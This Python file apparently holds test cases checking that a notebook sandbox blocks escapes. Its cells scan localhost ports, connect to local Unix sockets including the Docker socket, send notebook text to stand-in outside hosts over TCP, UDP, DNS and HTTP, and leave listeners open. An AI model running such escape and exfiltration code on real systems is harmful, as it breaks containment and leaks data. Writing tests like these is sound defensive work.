"""Network: who listens on this machine, and the world."""

from attacks.submission import cheat

SUBMISSIONS = (
    cheat(
        "connects_to_this_machine",
        "Ports of this machine are tried: 1 to 1024, Jupyter's, and a listener.",
        cells={
            "first": """
                import socket

                for host in ("127.0.0.1", "::1", "localhost", "0.0.0.0"):
                    for port in (48731, 22, 80, 5432, 8786, *range(8888, 8900)):
                        try:
                            with socket.create_connection((host, port), 0.2) as line:
                                line.sendall(b"hello")
                                print("connected", host, port)
                        except OSError:
                            pass
            """,
        },
        solved=True,
    ),
    cheat(
        "connects_to_local_sockets",
        "Named and abstract sockets of this machine are tried.",
        cells={
            "first": """
                import os
                import socket
                from pathlib import Path

                names = ["\\0canary", "/tmp/outside/socket", "/run/docker.sock"]
                for folder in ("/tmp", "/run", "/var/run"):
                    try:
                        names += [str(p) for p in Path(folder).rglob("*") if p.is_socket()]
                    except OSError:
                        pass
                for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
                    for name in names:
                        try:
                            line = socket.socket(socket.AF_UNIX, kind)
                            line.settimeout(0.2)
                            line.connect(name)
                            line.send(b"hello")
                            print("connected", name)
                        except OSError:
                            pass
            """,
        },
        solved=True,
    ),
    cheat(
        "calls_the_internet",
        "The notebook's text is sent to the world, by TCP, UDP, DNS and ICMP.",
        cells={
            "first": """
                import socket
                import threading
                import urllib.request


                def attempt(call):
                    try:
                        print("sent", call())
                    except OSError:
                        pass


                def calls():
                    socket.setdefaulttimeout(0.3)
                    attempt(lambda: socket.create_connection(("192.0.2.1", 80), 0.3))
                    udp = lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
                    attempt(lambda: udp().sendto(b"text", ("192.0.2.1", 53)))
                    attempt(lambda: socket.getaddrinfo("answers.example", 80))
                    attempt(lambda: urllib.request.urlopen("http://192.0.2.1", timeout=0.3))
                    raw = socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP
                    attempt(lambda: socket.socket(*raw))
                    attempt(lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW))
                    attempt(lambda: socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM))
                    attempt(lambda: socket.socket(socket.AF_ALG, socket.SOCK_SEQPACKET))


                thread = threading.Thread(target=calls, daemon=True)
                thread.start()
                thread.join(2)
            """,
        },
        solved=True,
    ),
    cheat(
        "leaves_a_server",
        "A server that runs code for whoever connects is left open.",
        cells={
            "first": """
                import socket
                import threading

                listeners = []
                for family, address in (
                    (socket.AF_INET, ("127.0.0.1", 48732)),
                    (socket.AF_UNIX, "\\0left-open"),
                    (socket.AF_UNIX, "left-open"),
                ):
                    try:
                        listener = socket.socket(family)
                        listener.bind(address)
                        listener.listen()
                        listeners.append(listener)
                    except OSError:
                        pass
            """,
        },
        solved=True,
    ),
)
